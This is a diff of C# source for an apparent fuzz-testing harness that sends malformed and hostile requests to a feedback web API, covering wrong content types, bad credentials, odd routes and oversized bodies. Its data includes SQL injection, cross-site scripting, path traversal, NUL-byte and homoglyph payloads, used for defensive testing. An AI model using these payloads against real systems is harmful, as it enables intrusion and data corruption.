+            12 => ("application/json; charset=\"\"", Utf8(valid)),
+            13 => ("text/html", Utf8(valid)),
+            _ => (Pick(new[] { "json", "application/", "*/*", "application/json, text/plain", "application/json;;;", ";", "\u0430pplication/json" }), Utf8(valid)),
+        };
+        return Post(t.Route, "wrong content type", t.Url, body, t.Caller, type);
+    }
+
+    private FuzzRequest WrongCaller(Target t)
+    {
+        var valid = Utf8(t.Valid());
+        if (t.Refused.Count > 0 && Chance(0.5))
+        {
+            return Post(t.Route, "not allowed", t.Url, valid, Pick(t.Refused));
+        }
+
+        if (t.Route == Login)
+        {
+            // Look-alike or unknown accounts, also with the right password: never a sign-in, never a failed-attempt count.
+            var email = Pick(BadEmails);
+            var password = Chance(0.5) ? Password : AnyHostile();
+            return Post(t.Route, "look-alike sign-in", t.Url, Utf8($"{{\"email\":{S(email)},\"password\":{S(password)}}}"), Caller.Anonymous);
+        }
+
+        var headers = random.Next(4) switch
+        {
+            0 => [new("X-Api-Key", Pick(BadApiKeys))],
+            1 => [new("X-Api-Key", "demo-ingest-key"), new KeyValuePair<string, string>("X-Api-Key", "other")],
+            2 => [new("Authorization", Pick(new[] { "Bearer x", "Bearer ' OR 1=1", "Bearer " + new string('A', 10_000), "Basic YWRtaW46YWRtaW4=", "Bearer" }))],
+            _ => new List<KeyValuePair<string, string>> { new("X-Api-Key", new string('k', 10_000)) },
+        };
+        return Post(t.Route, "bad credentials", t.Url, valid, Caller.Anonymous, headers: headers);
+    }
+
+    private static readonly string[] HostileSegments =
+    [
+        "not-a-guid", "'; DROP TABLE Events;--", "<script>alert(1)</script>", "-1", "99999999999999999999", "1e400", "null", "undefined",
+        "\u202eevil", "\uff11\uff12\uff13", new string('x', 10_000), "..", "...", "%", "\0", "\u0430",
+    ];
+
+    private static readonly string[] EncodedSegments = ["%00", "..%2F..%2Fadmin", "%2e%2e%2f", "%C3%28", "%E2%80%AE", "%FF%FE", "%u0041"];
+
+    private string HostileSegment() => Chance(0.7) ? Uri.EscapeDataString(Pick(HostileSegments)) : Pick(EncodedSegments);
+
+    private FuzzRequest HostileActionPath()
+    {
+        var id = targets.Item.ToString();
+        var segment = random.Next(6) switch
+        {
+            0 => HostileSegment(),
+            1 => Guid.Empty.ToString(),
+            2 => Pick(new[] { "3f2504e0-4f89-41d3-9a0c-0305e82c3301", "00000000-0000-0000-0000-000000000001", "ffffffff-ffff-ffff-ffff-ffffffffffff" }),
+            3 => Uri.EscapeDataString(Pick(new[] { id + "0", id[..^1], "\u0430" + id[1..], "g" + id[1..], "{" + id, id + "\0" })),
+            4 => Uri.EscapeDataString(string.Concat(id.Select(c => char.IsAsciiDigit(c) ? (char)(c - '0' + '\uff10') : c))),
+            _ => Uri.EscapeDataString("{3f2504e0-4f89-41d3-9a0c-0305e82c3301}"),
+        };
+        var body = Chance(0.5) ? Utf8(ValidAction()) : WrongShapeBody();
+        return Post(Actions, "hostile id", $"/api/feedback/{segment}/actions", body, Caller.Ravi);
+    }
+
+    private FuzzRequest UnknownRoute()
+    {
+        var method = Pick(new[] { HttpMethod.Post, HttpMethod.Put, HttpMethod.Patch, HttpMethod.Delete });
+        var url = random.Next(6) switch
+        {
+            0 => "/api/" + HostileSegment(),
+            1 => $"/api/feedback/{targets.Item}/actions/" + HostileSegment(),
+            2 => "/api/" + Pick(new[] { "admin", "auth/register", "events/" + NewGuid(), "feedback/batch/x", "users", "api-keys", "scoring/rules" }),
+            3 => Pick(new[] { "/api/feedback", "/api/events", "/api/auth/login", "/api/feedback/batch", $"/api/feedback/{targets.Item}" }),
+            4 => $"/api/feedback/{targets.Item}/actions",
+            _ => "/api/boards/employees",
+        };
+        if (method == HttpMethod.Post && random.Next(6) < 4 && url.StartsWith("/api/feedback", StringComparison.Ordinal) && !url.Contains("/x", StringComparison.Ordinal))
+        {
+            url = "/api/" + HostileSegment() + "/x";
+        }
+
+        var body = Chance(0.5) ? WrongShapeBody() : Utf8(ValidAction());
+        var caller = Pick(new[] { Caller.Ravi, Caller.Integration, Caller.Anonymous });
+        return new FuzzRequest(ApiFallback, "unknown route", method, url, body, Json, caller, []);
+    }
+
+    private FuzzRequest HubTransport()
+    {
+        var (route, url) = random.Next(3) switch
+        {
+            0 => (HubNegotiate, "/hubs/live/negotiate?negotiateVersion=1"),
+            1 => (HubNegotiate, "/hubs/live/negotiate?negotiateVersion=1&access_token=" + Uri.EscapeDataString(AnyHostile())),
+            _ => (Hub, "/hubs/live?id=" + HostileSegment()),
+        };
+        var method = route == Hub && Chance(0.3) ? HttpMethod.Delete : HttpMethod.Post;
+        return new FuzzRequest(route, "hub transport", method, url, WrongShapeBody(), Pick(new[] { "text/plain", Json }), Caller.Anonymous, []);
+    }
+
+    /// <summary>Bodies over the server's request body limit, one per write route.</summary>
+    public IEnumerable<FuzzRequest> Oversized(long limit)
+    {
+        var body = new byte[limit + 1];
+        Array.Fill(body, (byte)' ');
+        body[0] = (byte)'{';
+        body[^1] = (byte)'}';
+        foreach (var t in Targets())
+        {
+            yield return Post(t.Route, "over the size limit", t.Url, body, t.Caller);
+        }
+    }
+
+    // ---------------------------------------------------------------- hostile but valid
+
+    /// <summary>Well-formed feedback whose content is hostile: accepted, stored as plain text.</summary>
+    public static IReadOnlyList<(string Text, string Author)> HostileButValidFeedback { get; } =
+    [
+        ("<script>alert('x')</script>Great app, but it crashes", "<b>kim</b>"),
+        ("<img src=x onerror=alert(1)>The delivery was late", "@kim<script>"),
+        ("&lt;script&gt;alert(1)&lt;/script&gt; entity-encoded tags", "&lt;b&gt;eve&lt;/b&gt;"),
+        ("<scr<script>ipt>alert(1)</script> nested tags", "eve"),
+        ("'; DROP TABLE Events;-- the app is slow", "Robert'); DROP TABLE FeedbackItems;--"),
+        ("\u202eevil right-to-left override and ze\u200dro wi\u200bdth", "\u0430dmin"),
+        ("Fullwidth \uff52\uff45\uff41\uff44 and Cyrillic re\u0430d, emoji \U0001F389", "\uff4b\uff49\uff4d"),
+        ("NUL \u0000 and bell \u0007 control characters", "ctl\u0001"),
+    ];
+}
